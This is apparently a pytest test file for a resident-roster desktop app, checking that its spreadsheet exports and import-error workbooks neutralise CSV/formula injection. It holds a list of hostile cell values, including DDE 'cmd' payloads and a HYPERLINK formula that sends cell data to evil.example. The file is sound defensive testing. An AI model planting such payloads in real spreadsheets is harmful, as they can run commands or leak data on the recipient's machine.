"""No file the app writes for a spreadsheet carries a cell that runs (OWASP CSV injection): the
roster's .xlsx and .csv, masked or not, and the import's errors workbook, read back as files."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from desktop.roster.exporting.export import ExportOptions, export_residents
from desktop.roster.models import Resident
from desktop.spreadsheets.cells import escape_cell, escape_row, unescape_cell

from .conftest import living

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "\t=1+1",
    "\r=1+1",
]


def test_the_escaping_rule():
    for text in HOSTILE:
        assert escape_cell(text) == "'" + text
        assert unescape_cell(escape_cell(text)) == text
    for text in ("张三明", "'quoted", "", "a=b", "13812345678", "0571-87654321"):
        assert escape_cell(text) == text
        assert unescape_cell(text) == text
    assert escape_cell("'=1") == "''=1" and unescape_cell("''=1") == "'=1"
    for value in (None, 5, -3, 2.5):
        assert escape_cell(value) == value
    assert escape_row(["=1", None, 7, "x"]) == ["'=1", None, 7, "x"]


@pytest.fixture
def hostile_roster(roster):
    """Seven living residents whose name, work unit and notes are formulas."""
    people = living(roster)[:len(HOSTILE)]
    with roster.unit_of_work("test") as uow:
        for person, text in zip(people, HOSTILE):
            row = uow.session.get(Resident, person.id)
            row.name, row.work_unit, row.notes = text, text, text
    return roster, tuple(p.id for p in people)


def _no_formula_xml(path) -> None:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)


@pytest.mark.parametrize("mask", [False, True])
def test_xlsx_export_has_no_live_formula(hostile_roster, tmp_path, mask):
    db, ids = hostile_roster
    target = tmp_path / "x.xlsx"
    export_residents(db, target, ExportOptions(
        columns=("name", "work_unit", "notes", "phone"), mask=mask, resident_ids=ids))
    _no_formula_xml(target)
    ws = openpyxl.load_workbook(target).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    for row in ws.iter_rows(min_row=2, values_only=True):
        for value in row:
            if value:
                assert value[0] not in "=+-@\t\r", value
    work_units = sorted(r[1] for r in ws.iter_rows(min_row=2, values_only=True))
    assert work_units == sorted("'" + t for t in HOSTILE)


@pytest.mark.parametrize("mask", [False, True])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "gbk"])
def test_csv_export_has_no_live_formula(hostile_roster, tmp_path, mask, encoding):
    db, ids = hostile_roster
    target = tmp_path / "x.csv"
    export_residents(db, target, ExportOptions(
        format="csv", encoding=encoding, columns=("name", "work_unit", "notes"), mask=mask,
        resident_ids=ids))
    codec = "utf-8-sig" if encoding == "utf-8-sig" else "gb18030"
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode(codec), newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        for value in row:
            assert not value or value[0] not in "=+-@\t\r", value
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + t for t in HOSTILE)
    if not mask:
        assert sorted(r[0] for r in rows[1:]) == sorted("'" + t for t in HOSTILE)
        assert sorted(unescape_cell(r[0]) for r in rows[1:]) == sorted(HOSTILE)


def test_errors_workbook_has_no_live_formula(roster, data_dir, tmp_path):
    from desktop.cli import main

    roster.close()
    source = tmp_path / "in.csv"
    lines = ["姓名,身份证号,联系电话,备注,=1+1"]
    for text in HOSTILE:
        # an impossible ID number sends the row to the errors workbook as it was
        lines.append(",".join(['"' + text.replace('"', '""') + '"', "330106199013401234",
                               '"+86 138 0013 8000"', '"' + text.replace('"', '""') + '"',
                               '"a\x01b"']))
    source.write_text("\n".join(lines), encoding="utf-8-sig")
    errors = tmp_path / "e.xlsx"
    code = main(["roster", "import", str(source), "--data-dir", str(data_dir.root),
                 "--errors", str(errors)])
    assert code == 1
    _no_formula_xml(errors)
    ws = openpyxl.load_workbook(errors).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][4] == "'=1+1"  # the file's own header too
    # (a CR inside a cell comes back as a line feed: XML line ends; it is still escaped)
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + t.replace("\r", "\n")
                                                    for t in HOSTILE)
    assert {r[2] for r in rows[1:]} == {"'+86 138 0013 8000"}  # documented: escaped as well
    assert {r[4] for r in rows[1:]} == {"a_x0001_b"}  # a control character no longer crashes


# What the import keeps as it is (no "*", which reads as a masked export; no whitespace first,
# which the import trims): only the escaping is being tested.
ROUND_TRIP = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "-已搬走",
              "''=1"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_escaped_cells_import_back_unchanged(roster, tmp_path, fmt):
    from desktop.roster.importing.pipeline import dry_run, prepare_import

    with roster.unit_of_work("test") as uow:
        for person, text in zip(living(roster), ROUND_TRIP):
            row = uow.session.get(Resident, person.id)
            row.name, row.work_unit, row.notes = text, text, text
    target = tmp_path / f"x.{fmt}"
    summary = export_residents(roster, target, ExportOptions(
        format=fmt, mask=False, columns=("name", "id_number", "work_unit", "notes", "compound",
                                         "building", "unit", "room")))
    plan = dry_run(roster, prepare_import(target).read, "update")
    assert (plan.count("unchanged"), plan.count("update")) == (summary.rows, 0)
